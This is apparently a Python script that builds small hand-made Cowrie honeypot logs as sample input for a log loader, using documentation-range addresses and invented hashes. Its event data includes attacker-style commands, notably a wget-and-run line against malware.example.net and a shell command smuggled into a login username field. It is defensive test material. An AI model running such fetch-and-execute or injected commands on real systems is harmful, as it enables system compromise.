"""Writes the two small Cowrie logs of our own making in samples/.

Every address is from the documentation ranges (RFC 5737 / RFC 3849), every hash and URL
is invented, and the sessions are written by hand to show what the loader handles: SSH and
Telnet, failed and successful logins, commands, a download with a URL, a failed download,
an upload, a session that ends in the next file, and attacker text with escapes.
Run it again to rebuild the files byte for byte: `python scripts/make_sample.py`.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path

HERE = Path(__file__).resolve().parents[1] / "samples"
SENSOR = "sample-sensor-01"


def event(session: str, ts: str, eventid: str, **fields: object) -> dict[str, object]:
    return {"eventid": eventid, "timestamp": ts, "session": session, "sensor": SENSOR} | fields


def day_one() -> list[dict[str, object]]:
    ssh = "a1b2c3d4e5f6"
    tel = "0badc0ffee01"
    up = "5f5f5f5f5f5f"
    late = "1a7e1a7e1a7e"
    dl_hash = "3b0d8ad52a2d7f1e0c4f5e7a9b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c"
    up_hash = "7c1e9a4b2d5f8e0a3c6b9d2e5f8a1b4c7d0e3f6a9b2c5d8e1f4a7b0c3d6e9f2a"
    return [
        event(
            ssh,
            "2026-11-30T23:50:01.120034Z",
            "cowrie.session.connect",
            src_ip="198.51.100.23",
            src_port=40522,
            dst_ip="192.0.2.10",
            dst_port=22,
            protocol="ssh",
            message="New connection",
        ),
        event(
            ssh,
            "2026-11-30T23:50:01.532101Z",
            "cowrie.client.version",
            version="SSH-2.0-Go",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:02.004512Z",
            "cowrie.client.kex",
            protocol="ssh",
            hassh="0a07365cc01fa9fc82608ba4019af499",
            hasshAlgorithms="curve25519-sha256",
        ),
        event(
            ssh,
            "2026-11-30T23:50:03.100200Z",
            "cowrie.login.failed",
            username="root",
            password="123456",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:04.200300Z",
            "cowrie.login.failed",
            username="admin",
            password="andžejs",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:05.300400Z",
            "cowrie.login.success",
            username="root",
            password="admin",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:06.400500Z",
            "cowrie.command.input",
            input="uname -a; cat /proc/cpuinfo | grep name | wc -l",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:07.500600Z",
            "cowrie.command.input",
            input="echo -e '\\x47\\x72\\x6f\\x70' > /tmp/.x",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:08.600700Z",
            "cowrie.command.input",
            input="cd /tmp; wget http://malware.example.net/bins/x86.sh; sh x86.sh",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:09.700800Z",
            "cowrie.session.file_download",
            url="http://malware.example.net/bins/x86.sh",
            shasum=dl_hash,
            outfile=f"var/lib/cowrie/downloads/{dl_hash}",
            destfile="x86.sh",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:10.800900Z",
            "cowrie.session.file_download.failed",
            url="http://unreachable.example.org/a.sh",
            shasum=None,
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:11.901000Z",
            "cowrie.command.failed",
            input="./x86.sh",
            protocol="ssh",
        ),
        event(
            ssh,
            "2026-11-30T23:50:13.001100Z",
            "cowrie.session.closed",
            duration="11.9",
            protocol="ssh",
        ),
        event(
            tel,
            "2026-11-30T23:55:00.000001Z",
            "cowrie.session.connect",
            src_ip="::ffff:203.0.113.77",
            src_port=51000,
            dst_ip="192.0.2.10",
            dst_port=23,
            protocol="telnet",
        ),
        event(
            tel,
            "2026-11-30T23:55:01.000002Z",
            "cowrie.login.failed",
            username="ping 127.0.0.1 -c1 && sh\u0000",
            password="system\u0000",
            protocol="telnet",
        ),
        event(
            tel,
            "2026-11-30T23:55:02.000003Z",
            "cowrie.login.success",
            username="Admin\t\t",
            password="",
            protocol="telnet",
        ),
        event(
            tel,
            "2026-11-30T23:55:03.000004Z",
            "cowrie.command.input",
            input="enable\n",
            protocol="telnet",
        ),
        event(
            tel,
            "2026-11-30T23:55:04.000005Z",
            "cowrie.session.closed",
            duration_ms=4000,
            protocol="telnet",
        ),
        event(
            up,
            "2026-11-30T23:57:00.000000Z",
            "cowrie.session.connect",
            src_ip="2001:db8::5",
            src_port=41000,
            dst_ip="192.0.2.10",
            dst_port=22,
            protocol="ssh",
        ),
        event(
            up,
            "2026-11-30T23:57:01.000000Z",
            "cowrie.client.version",
            version="\u0016\u0003\u0001\u0000\u00a5\u0001 TLS hello as version",
            protocol="ssh",
        ),
        event(
            up,
            "2026-11-30T23:57:02.000000Z",
            "cowrie.login.success",
            username="ubuntu",
            password="ubuntu",
            protocol="ssh",
        ),
        event(
            up,
            "2026-11-30T23:57:03.000000Z",
            "cowrie.session.file_upload",
            shasum=up_hash,
            outfile=f"var/lib/cowrie/downloads/{up_hash}",
            filename="sshd",
            protocol="ssh",
        ),
        event(
            up,
            "2026-11-30T23:57:04.000000Z",
            "cowrie.session.closed",
            duration=4.0,
            protocol="ssh",
        ),
        event(
            late,
            "2026-11-30T23:59:58.000000Z",
            "cowrie.session.connect",
            src_ip="192.0.2.200",
            src_port=50500,
            dst_ip="192.0.2.10",
            dst_port=22,
            protocol="ssh",
        ),
        event(
            late,
            "2026-11-30T23:59:59.500000Z",
            "cowrie.login.failed",
            username="oracle",
            password="oracle",
            protocol="ssh",
        ),
    ]


def day_two() -> list[dict[str, object]]:
    late = "1a7e1a7e1a7e"
    fwd = "f0f0f0f0f0f0"
    return [
        event(
            late,
            "2026-12-01T00:00:01.000000Z",
            "cowrie.login.success",
            username="oracle",
            password="oracle123",
            protocol="ssh",
        ),
        event(
            late,
            "2026-12-01T00:00:04.000000Z",
            "cowrie.session.closed",
            duration=6.0,
            protocol="ssh",
        ),
        event(
            fwd,
            "2026-12-01T00:10:00.000000+00:00",
            "cowrie.session.connect",
            src_ip="198.51.100.99",
            src_port=33000,
            dst_ip="192.0.2.10",
            dst_port=22,
            protocol="ssh",
        ),
        event(
            fwd,
            "2026-12-01T00:10:01",
            "cowrie.direct-tcpip.request",
            dst_ip="example.com",
            dst_port=443,
            src_ip="198.51.100.99",
            src_port=0,
            protocol="ssh",
        ),
        event(
            fwd,
            "2026-12-01T00:10:02.5+01:00",
            "cowrie.direct-tcpip.ja4",
            ja4="t13d1516h2_8daaf6152771_02713d6af862",
            protocol="ssh",
        ),
        event(fwd, "2026-12-01T00:10:09Z", "cowrie.session.closed", duration=9, protocol="ssh"),
    ]


def main() -> None:
    lines = [json.dumps(e, ensure_ascii=True) for e in day_one()]
    (HERE / "cowrie.json.2026-11-30").write_text("\n".join(lines) + "\n", encoding="utf-8")
    body = ("\n".join(json.dumps(e) for e in day_two()) + "\n").encode("utf-8")
    (HERE / "cowrie.json.2026-12-01.gz").write_bytes(gzip.compress(body, mtime=0))


if __name__ == "__main__":
    main()
